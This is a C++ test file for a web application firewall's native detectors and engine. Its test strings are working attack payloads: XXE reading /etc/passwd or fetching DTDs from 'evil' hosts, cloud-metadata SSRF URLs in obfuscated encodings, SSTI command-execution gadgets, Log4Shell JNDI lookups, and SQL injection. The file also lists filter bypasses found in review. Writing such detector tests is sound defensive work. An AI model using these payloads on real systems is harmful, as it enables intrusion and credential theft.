// Mamori's native detectors (src/waf/native.h): each detector on the attacks it is for, in
// their encodings, and on the benign look-alikes it must leave alone (code in forum posts,
// REST and GraphQL bodies, prose); then the engine running them after the rules.
#include "waf/native.h"

#include <gtest/gtest.h>

#include <memory>

#include "waf/engine.h"
#include "waf/metrics.h"
#include "waf/rules.h"

namespace mamori::waf {
namespace {

TEST(NativeXxe, ExternalEntitiesAndXIncludeButNotW3cDoctypes) {
  EXPECT_TRUE(
      xxe_in("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM "
             "\"file:///etc/passwd\">]><r>&x;</r>"));
  EXPECT_TRUE(xxe_in("<!doctype r [<!entity   x  public \"-//x\" \"http://evil/x\">]>"));
  EXPECT_TRUE(xxe_in("<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil/p.dtd\"> %p;]>"));
  EXPECT_TRUE(xxe_in("<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>"));
  EXPECT_TRUE(
      xxe_in("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include "
             "parse=\"text\" href=\"file:///etc/passwd\"/></r>"));
  // Internal entities and the W3C's own DTDs are not external fetches an attacker controls.
  EXPECT_FALSE(xxe_in("<!DOCTYPE r [<!ENTITY name \"Mamori\">]><r>&name;</r>"));
  EXPECT_FALSE(
      xxe_in("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
             "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">"));
  EXPECT_FALSE(xxe_in("<!DOCTYPE html><p>The SYSTEM keyword declares an external entity</p>"));
  EXPECT_FALSE(xxe_in("<!ENTITYSYSTEM>"));
}

TEST(NativeSsrf, MetadataAddressesInEveryEncoding) {
  for (const char* v :
       {"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://2852039166/latest/meta-data/",
        "http://0xa9fea9fe/",
        "http://0xA9.0xFE.0xA9.0xFE/",
        "http://0251.0376.0251.0376/",
        "http://169.254.43518/",
        "http://0251.254.169.254/",
        "http://[::ffff:169.254.169.254]/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://[fd00:ec2::254]/",
        "https://user:pw@169.254.169.254:80/x",
        "//169.254.169.254/",
        "http:////169.254.169.254",
        "gopher://169.254.170.2/_GET",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://METADATA.GOOGLE.INTERNAL./",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.169.254.nip.io/",
        "http://app-169-254-169-254.sslip.io/",
        "http://%31%36%39.254.169.254/",
        "169.254.169.254/latest/user-data",
        "http://\xe2\x91\xa0\xe2\x91\xa5\xe2\x91\xa8.\xe2\x91\xa1\xe2\x91\xa4\xe2\x91\xa3."
        "\xe2\x91\xa0\xe2\x91\xa5\xe2\x91\xa8.\xe2\x91\xa1\xe2\x91\xa4\xe2\x91\xa3/",
        "http://\xef\xbc\x91\xef\xbc\x96\xef\xbc\x99\xe3\x80\x82"
        "254.169.254/"})
    EXPECT_TRUE(metadata_host_in(v)) << v;
  for (const char* v :
       {"https://example.com/", "http://169.255.169.254/", "http://10.0.0.1/", "2852039166",
        "order 169.254 items", "http://[2001:db8::1]/", "http://0x1g/", "http://1.2.3.4.5/",
        "see https://en.wikipedia.org/wiki/Link-local_address"})
    EXPECT_FALSE(metadata_host_in(v)) << v;
}

TEST(NativeSsrf, ParsesAddressesAsInetAton) {
  unsigned char a[16];
  bool v4 = false;
  ASSERT_TRUE(parse_any_ip("127.1", a, v4));
  EXPECT_TRUE(v4);
  EXPECT_EQ(a[12], 127);
  EXPECT_EQ(a[15], 1);
  ASSERT_TRUE(parse_any_ip("0x7f.0.0.01", a, v4));
  EXPECT_EQ(a[12], 127);
  EXPECT_FALSE(parse_any_ip("256.1.1.1", a, v4));
  EXPECT_FALSE(parse_any_ip("1.2.3.256", a, v4));
  EXPECT_FALSE(parse_any_ip("4294967296", a, v4));
  EXPECT_FALSE(parse_any_ip("09.1.1.1", a, v4));  // 9 is not octal
  EXPECT_FALSE(parse_any_ip("1..1", a, v4));
  ASSERT_TRUE(parse_any_ip("[64:ff9b::a9fe:a9fe]", a, v4));
  EXPECT_TRUE(v4);
  EXPECT_EQ(a[12], 169);
}

TEST(NativeSsti, TemplateProbesAndGadgets) {
  for (const char* v : {"{{7*7}}",
                        "{{7*'7'}}",
                        "<%= 7 * 7 %>",
                        "@(1+2)",
                        "${7*7}",
                        "#{7*7}",
                        "{{dump(app)}}",
                        "{{config.items()}}",
                        "{{ ''.__class__.__mro__[2].__subclasses__() }}",
                        "{{ [].class.base.subclasses() }}",
                        "{{'a'.toUpperCase()}} ",
                        "{{ request }}",
                        "{{self}}",
                        "{$smarty.version}",
                        "{{['id']|filter('system')}}",
                        "{{request|attr(\"__class__\")}}",
                        "{{cycler.__init__.__globals__.os}}",
                        "{% for k, v in config.iteritems() %}x{% endfor %}",
                        "${T(java.lang.Runtime).getRuntime().exec('id')}",
                        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
                        "{{app.request.server.all|join(',')}}",
                        "%7B%7B7%2A7%7D%7D"})
    EXPECT_TRUE(ssti_in(v)) << v;
  // Templates in forum posts and front-end code use the same braces for ordinary values.
  for (const char* v :
       {"Hello {{ user.name }}, you have {{ count }} messages",
        "const s = `total: ${price * qty}`;", "{% for item in items %}{{ item }}{% endfor %}",
        "mail me at a@(b) c", "echo ${HOME}/bin", "{{ 2024 }} edition",
        "Use <%= link_to 'Home', root_path %> in the layout"})
    EXPECT_FALSE(ssti_in(v)) << v;
  // A long page of ordinary template text is judged whole and passes; openings nested beyond
  // reason cannot hide a payload behind them.
  std::string page;
  for (int i = 0; i < 5000; ++i)
    page += "<li>{{ item.name }} ${ price } {% if a %}x{% endif %}</li>";
  EXPECT_FALSE(ssti_in(page));
  EXPECT_TRUE(ssti_in(page + "{{7*7}}"));
  std::string nested(4000, '{');
  EXPECT_TRUE(ssti_in(nested + "a}}" + std::string(100, 'x') + "{{ self }}"));
}

TEST(NativeNosql, OperatorsAsKeysAndInValues) {
  EXPECT_TRUE(nosql_key("user[$ne]"));
  EXPECT_TRUE(nosql_key("json.password.$gt"));
  EXPECT_TRUE(nosql_key("$where"));
  EXPECT_FALSE(nosql_key("price[$usd]"));
  EXPECT_FALSE(nosql_key("json.total$"));
  EXPECT_FALSE(nosql_key("a[ne]"));
  for (const char* v : {"{ $ne: 1 }", "{\"$gt\": \"\"}", "', $where: '1 == 1'", "$where: '1 == 1'",
                        "1, $where: '1 == 1'", "{$gt: ''}"})
    EXPECT_TRUE(nosql_in_value(v)) << v;
  for (const char* v : {"costs $5: cheap", "var x = {$el: 1}", "$ne is an operator",
                        "PHP: $where = 1;", "price: $gt 5"})
    EXPECT_FALSE(nosql_in_value(v)) << v;
}

TEST(NativeProto, PollutionKeysOnlyAsSegments) {
  EXPECT_TRUE(proto_key("__proto__[admin]"));
  EXPECT_TRUE(proto_key("a.__proto__.b"));
  EXPECT_TRUE(proto_key("json.__proto__.isAdmin"));
  EXPECT_TRUE(proto_key("constructor[prototype][admin]"));
  EXPECT_TRUE(proto_key("json.constructor.prototype.x"));
  EXPECT_FALSE(proto_key("my__proto__field"));
  EXPECT_FALSE(proto_key("constructor"));
  EXPECT_FALSE(proto_key("json.constructor.name"));
}

TEST(NativeJndi, NestedLookupsResolveAsLog4jDoes) {
  for (const char* v : {"${jndi:ldap://evil/a}", "${${lower:J}ndi:ldap://e/a}",
                        "${${::-j}${::-n}${::-d}${::-i}:rmi://e/a}", "${${env:NaN:-j}ndi:dns://e}",
                        "${j${k8s:k5:-ND}i:ldap://e/}", "${${upper:j}NDI:ldap://e}",
                        "${${date:'j'}ndi:ldap://e}", "%24%7Bjndi%3Aldap%3A%2F%2Fe%7D",
                        "x ${ jndi:ldap://e", "${${lower:${lower:J}}ndi:ldap://e}"})
    EXPECT_TRUE(jndi_in(v)) << v;
  for (const char* v : {"${HOME}", "${env:USER}", "${lower:JNDI}", "jndi:ldap://e",
                        "${java:version}", "price ${5}"})
    EXPECT_FALSE(jndi_in(v)) << v;
  // Java folds these letters to ASCII in upper/lower lookups (a published bypass).
  EXPECT_TRUE(jndi_in("${jnd${upper:\xc4\xb1}:ldap://evil/a}"));
  // Log4j resolves any depth: nesting deeper than 16 is reported, never followed further.
  std::string deep;
  for (int i = 0; i < 100000; ++i) deep += "${";
  EXPECT_TRUE(jndi_in(deep));
  std::string seventeen;
  for (int i = 0; i < 17; ++i) seventeen += "${";
  EXPECT_TRUE(jndi_in(seventeen + "jndi:ldap://e/a" + std::string(17, '}')));
}

// What an attack review found getting past the first version of the detectors (each checked
// against the real parser: Jinja2, libxml2, Log4j's lookup rules, curl/Python/Node URLs).
TEST(NativeReview, PaddingEncodingsAndParserQuirksDoNotHideAttacks) {
  // SSTI: white space inside an expression, spaces around filters, Twig's map, ERB backticks.
  EXPECT_TRUE(ssti_in("{{ cycler.__init__.__globals__.os['po'~'pen'](request.args.c).read()" +
                      std::string(300, ' ') + "}}"));
  EXPECT_TRUE(ssti_in("{{['id']|map('system')|join}}"));
  EXPECT_TRUE(ssti_in("{{['id'] | filter('system')}}"));
  EXPECT_TRUE(ssti_in("<%= `id` %>"));
  EXPECT_TRUE(ssti_in("{{ request[request.args.a][request.args.b] }}"));
  EXPECT_FALSE(ssti_in("{{ .Values.namespace.name }}"));  // Helm
  EXPECT_FALSE(ssti_in("{{ settings.SITE_NAME }}"));
  // XXE: padding, UTF-16, XInclude of 2003, as the default namespace, behind a reference.
  EXPECT_TRUE(xxe_in("<!DOCTYPE x [<!ENTITY" + std::string(2100, ' ') +
                     "e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"));
  EXPECT_TRUE(xxe_in("<!DOCTYPE" + std::string(3000, ' ') + "x SYSTEM \"http://evil/x.dtd\">"));
  std::string utf16 = "\xff\xfe";
  for (char c : std::string("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>")) {
    utf16 += c;
    utf16 += '\0';
  }
  EXPECT_TRUE(xxe_in(utf16));
  EXPECT_TRUE(xxe_in(
      "<x xmlns:xi=\"http://www.w3.org/2003/XInclude\"><xi:include href=\"/etc/passwd\"/></x>"));
  EXPECT_TRUE(xxe_in("<include xmlns=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>"));
  EXPECT_TRUE(xxe_in("<x xmlns:xi=\"http://www.w3.org/&#50;001/XInclude\"/>"));
  // SSRF: userinfo with ; , ' ), a backslash before '@', one slash, backslashes, no slash, a
  // tab inside, math digits and the halfwidth full stop, a bare address, GCE's short name.
  for (const char* v :
       {"http://a;b@169.254.169.254/latest/meta-data/", "http://a,b@169.254.169.254/",
        "http://a'b@169.254.169.254/", "http://x.example\\@169.254.169.254/",
        "http:/169.254.169.254/", "http:\\\\169.254.169.254\\", "http:169.254.169.254/",
        "http://1\t69.254.169.254/",
        "http://\xf0\x9d\x9f\x8f\xf0\x9d\x9f\x94\xf0\x9d\x9f\x97.254.169.254/",
        "http://169\xef\xbd\xa1"
        "254\xef\xbd\xa1"
        "169\xef\xbd\xa1"
        "254/",
        "http://\xe2\x91\xaf"
        "9.254.169.254/",
        "169.254.169.254", "http://metadata/computeMetadata/v1/",
        "see http://example.com, then http://169.254.169.254)"})
    EXPECT_TRUE(metadata_host_in(v)) << v;
  std::string many;
  for (int i = 0; i < 100; ++i) many += "http://example.com/a ";
  EXPECT_TRUE(metadata_host_in(many + "http://169.254.169.254/"));
  EXPECT_FALSE(
      metadata_host_in("http://b\xc3\xbc"
                       "cher.example/ and 169.254"));
  // NoSQL: GraphQL variables are not operators; update operators and \u0024 escapes are.
  EXPECT_FALSE(
      nosql_in_value("mutation AddComment($postId: ID!, $text: String!) { add(id: $postId, text: "
                     "$text) { id } }"));
  EXPECT_FALSE(nosql_in_value("query Q($where: String, $size: Int) { x }"));
  EXPECT_TRUE(nosql_key("json.$set.role"));
  EXPECT_TRUE(nosql_in_value("{\"password\":{\"\\u0024ne\":\"\"}}"));
}

TEST(NativeGraphql, StringArgumentsAreJudgedNotTheQueryLanguage) {
  EXPECT_TRUE(graphql_in("query { user(name: \"x' OR '1'='1\") { id } }"));
  EXPECT_TRUE(graphql_in("{ post(body: \"<script>alert(1)</script>\") { id } }"));
  EXPECT_TRUE(graphql_in("mutation { add(text: \"\\u0027 or 1=1--\") { id } }"));
  EXPECT_TRUE(graphql_in("query { a(t: \"\"\"x' union select password from users--\"\"\") }"));
  EXPECT_FALSE(
      graphql_in("query GetPosts($first: Int) { posts(first: $first) { edges { node { id } } } }"));
  EXPECT_FALSE(graphql_in("{ search(term: \"select from where\") { ... on Post { title } } }"));
  EXPECT_FALSE(graphql_in("# comment with ' or 1=1\nquery { me { name } }"));
  EXPECT_FALSE(graphql_in("{\"a\": \"x' or '1'='1\"}"));  // JSON, not GraphQL
  EXPECT_FALSE(graphql_in("x' or '1'='1"));
}

TEST(NativeList, NamesAllNoneAndMistakes) {
  EXPECT_EQ(*parse_native_list("all"), static_cast<uint32_t>(kNativeAll));
  EXPECT_EQ(*parse_native_list("none"), 0u);
  EXPECT_EQ(*parse_native_list("xxe, ssrf"), static_cast<uint32_t>(kNativeXxe | kNativeSsrf));
  auto bad = parse_native_list("xxe,sqlinjection");
  ASSERT_FALSE(bad);
  EXPECT_NE(bad.error().message.find("'sqlinjection'"), std::string::npos);
  EXPECT_NE(bad.error().message.find("sqli-path"), std::string::npos);
}

// The engine: the detectors after the rules, with ids, variables, modes and ctl.
struct Eng {
  std::unique_ptr<Engine> e;
  explicit Eng(const std::string& rules, uint32_t native = kNativeAll) {
    auto rs = parse_rules(rules, "t.conf", {});
    EXPECT_TRUE(rs.has_value());
    EngineOptions o;
    o.native = native;
    auto b = Engine::build(std::move(*rs), o);
    EXPECT_TRUE(b.has_value());
    e = std::move(*b);
  }
  Verdict on(const std::string& raw) const { return e->evaluate_raw(raw, Connection{}); }
};

const char* kOn = "SecRuleEngine On\nSecRequestBodyAccess On\n";

std::string post(const std::string& path, const std::string& ctype, const std::string& body,
                 const std::string& extra = "") {
  return "POST " + path + " HTTP/1.1\r\nHost: h\r\nContent-Type: " + ctype +
         "\r\nContent-Length: " + std::to_string(body.size()) + "\r\n" + extra + "\r\n" + body;
}

TEST(NativeEngine, EachDetectorBlocksWithItsIdAndVariable) {
  Eng g(std::string(kOn) +
        "SecRule REQUEST_HEADERS:Content-Type \"@rx ^application/json\" "
        "\"id:200001,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON\"\n"
        "SecRule REQUEST_HEADERS:Content-Type \"@rx ^(?:text|application)/xml\" "
        "\"id:200002,phase:1,pass,nolog,ctl:requestBodyProcessor=XML\"\n");
  struct Case {
    std::string raw;
    int64_t id;
    std::string variable;
  };
  std::vector<Case> cases = {
      {post("/api", "application/xml",
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM "
            "\"file:///etc/passwd\">]><r>&x;</r>"),
       7700100, "REQUEST_BODY"},
      {"GET /fetch?url=http%3A%2F%2F0xa9fea9fe%2Flatest%2Fmeta-data HTTP/1.1\r\nHost: h\r\n\r\n",
       7700200, "ARGS:url"},
      {"GET /search?q=%7B%7B7%2A7%7D%7D HTTP/1.1\r\nHost: h\r\n\r\n", 7700300, "ARGS:q"},
      {post("/login", "application/json", "{\"user\":\"admin\",\"password\":{\"$ne\":null}}"),
       7700400, "ARGS_POST_NAMES:json.password.$ne"},
      {"GET /?__proto__[isAdmin]=1 HTTP/1.1\r\nHost: h\r\n\r\n", 7700500,
       "ARGS_GET_NAMES:__proto__[isAdmin]"},
      {"GET / HTTP/1.1\r\nHost: h\r\nX-Api-Version: ${${::-j}ndi:ldap://e/a}\r\n\r\n", 7700600,
       "REQUEST_HEADERS:X-Api-Version"},
      {"GET / HTTP/1.1\r\nHost: h\r\nX-Forwarded-For: 1' OR '1'='1\r\n\r\n", 7700700,
       "REQUEST_HEADERS:X-Forwarded-For"},
      {"GET /users/1%27%20OR%20%271%27%3D%271/profile HTTP/1.1\r\nHost: h\r\n\r\n", 7700710,
       "REQUEST_FILENAME"},
  };
  for (const auto& c : cases) {
    Verdict v = g.on(c.raw);
    EXPECT_TRUE(v.blocked) << c.raw;
    EXPECT_EQ(v.status, 403) << c.raw;
    EXPECT_EQ(v.rule_id, c.id) << c.raw;
    ASSERT_FALSE(v.matches.empty()) << c.raw;
    EXPECT_EQ(v.matches.back().variable, c.variable) << c.raw;
    EXPECT_FALSE(v.matches.back().msg.empty());
  }
}

TEST(NativeEngine, BenignApiTrafficPasses) {
  Eng g(std::string(kOn) +
        "SecRule REQUEST_HEADERS:Content-Type \"@rx ^application/json\" "
        "\"id:200001,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON\"\n");
  for (const std::string& raw :
       {post("/graphql", "application/json",
             "{\"query\":\"query($id: ID!) { user(id: $id) { name posts(first: 10) { title } } }\","
             "\"variables\":{\"id\":\"42\"}}"),
        post("/forum/post", "application/x-www-form-urlencoded",
             "body=Select+the+rows+from+the+table+where+the+price+is+above+%245"),
        std::string("PUT /api/items/42 HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\n"
                    "If-None-Match: \"abc\"\r\nSec-CH-UA: \"Chromium\";v=\"118\", "
                    "\"Not=A?Brand\";v=\"99\"\r\n"
                    "X-Request-Id: 0f3c-77\r\n\r\n"),
        std::string("GET /blog/2024/05/select-from-where-explained HTTP/1.1\r\nHost: h\r\n\r\n"),
        post("/wp-json/wp/v2/posts/7", "application/json",
             "{\"content\":\"<p>Use {{ user.name }} in Twig and ${HOME} in shell.</p>\"}")})
    EXPECT_FALSE(g.on(raw).blocked) << raw;
}

TEST(NativeEngine, DetectModeLogsAndRemovalAndOptionsTurnThemOff) {
  const std::string attack = "GET /?__proto__[x]=1 HTTP/1.1\r\nHost: h\r\n\r\n";
  Eng detect("SecRuleEngine DetectionOnly\n");
  Verdict d = detect.on(attack);
  EXPECT_FALSE(d.blocked);
  ASSERT_EQ(d.matches.size(), 1u);
  EXPECT_EQ(d.matches[0].rule_id, 7700500);

  Eng removed(std::string(kOn) +
              "SecAction \"id:1,phase:1,pass,nolog,ctl:ruleRemoveById=7700500\"\n");
  EXPECT_FALSE(removed.on(attack).blocked);
  Eng range(std::string(kOn) +
            "SecAction \"id:1,phase:1,pass,nolog,ctl:ruleRemoveById=7700000-7700999\"\n");
  EXPECT_FALSE(range.on(attack).blocked);

  Eng off(kOn, 0);
  EXPECT_FALSE(off.on(attack).blocked);
  Eng other(kOn, kNativeXxe | kNativeSsrf);
  EXPECT_FALSE(other.on(attack).blocked);
  Eng only(kOn, kNativeProto);
  EXPECT_TRUE(only.on(attack).blocked);
}

TEST(NativeReview, PathsHeadersAndValuesThatCarryAttacks) {
  Eng g{std::string(kOn)};
  // A router decodes %2F inside one parameter: the segment is judged as the router sees it.
  Verdict p = g.on(
      "GET /files/1%2F**%2FUNION%2F**%2FSELECT%2F**%2Fpassword%2F**%2FFROM%2F**%2Fusers "
      "HTTP/1.1\r\nHost: h\r\n\r\n");
  EXPECT_EQ(p.rule_id, 7700710);
  Verdict a = g.on("GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer x' OR '1'='1\r\n\r\n");
  EXPECT_EQ(a.rule_id, 7700700);
  Verdict b = g.on("GET / HTTP/1.1\r\nHost: h\r\nAccept-Language: en' OR '1'='1\r\n\r\n");
  EXPECT_EQ(b.rule_id, 7700700);
  EXPECT_FALSE(g.on("GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer "
                    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_x\r\nAccept-Language: "
                    "de-DE,de;q=0.9,en;q=0.8\r\n\r\n")
                   .blocked);
  // A property path as a value (lodash-style set(obj, path, v)).
  Verdict v = g.on("GET /?path=__proto__.isAdmin&v=1 HTTP/1.1\r\nHost: h\r\n\r\n");
  EXPECT_EQ(v.rule_id, 7700500);
  EXPECT_FALSE(g.on("GET /?q=what+does+__proto__+do HTTP/1.1\r\nHost: h\r\n\r\n").blocked);
  // An XML body without Content-Type is still read as XML by a parser that sniffs it.
  std::string xml =
      "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
  Verdict x =
      g.on("POST /api HTTP/1.1\r\nHost: h\r\nContent-Length: " + std::to_string(xml.size()) +
           "\r\n\r\n" + xml);
  EXPECT_EQ(x.rule_id, 7700100);
}

// The metrics text (the server itself is tested through `waf run`, tests/cli WafRun).
TEST(Metrics, PrometheusTextWithActionsThatDoNotOverlap) {
  MetricsSnapshot s;
  s.counters.requests = 10;
  s.counters.passed = 7;  // of which 2 detected
  s.counters.detected = 2;
  s.counters.blocked = 3;
  s.rule_blocks = {{949110, 2}, {7700200, 1}};
  s.rule_detects = {{942100, 2}};
  s.detect_mode = true;
  std::string t = render_metrics(s);
  EXPECT_NE(t.find("mamori_waf_requests_total{action=\"passed\"} 5\n"), std::string::npos);
  EXPECT_NE(t.find("mamori_waf_requests_total{action=\"detected\"} 2\n"), std::string::npos);
  EXPECT_NE(t.find("mamori_waf_requests_total{action=\"blocked\"} 3\n"), std::string::npos);
  // Rules in id order.
  size_t a = t.find("mamori_waf_rule_blocks_total{rule=\"949110\"} 2");
  size_t b = t.find("mamori_waf_rule_blocks_total{rule=\"7700200\"} 1");
  ASSERT_NE(a, std::string::npos);
  ASSERT_NE(b, std::string::npos);
  EXPECT_LT(a, b);
  EXPECT_NE(t.find("mamori_waf_rule_detections_total{rule=\"942100\"} 2"), std::string::npos);
  EXPECT_NE(t.find("mamori_waf_detect_mode 1\n"), std::string::npos);
  // Every sample's metric has its TYPE line first.
  for (std::string name : {"mamori_waf_requests_total", "mamori_waf_connections_open",
                           "mamori_waf_reloads_total", "mamori_waf_rule_blocks_total"}) {
    size_t sample = std::min(t.find("\n" + name + "{"), t.find("\n" + name + " "));
    ASSERT_NE(sample, std::string::npos) << name;
    EXPECT_LT(t.find("# TYPE " + name + " "), sample) << name;
  }
}

}  // namespace
}  // namespace mamori::waf
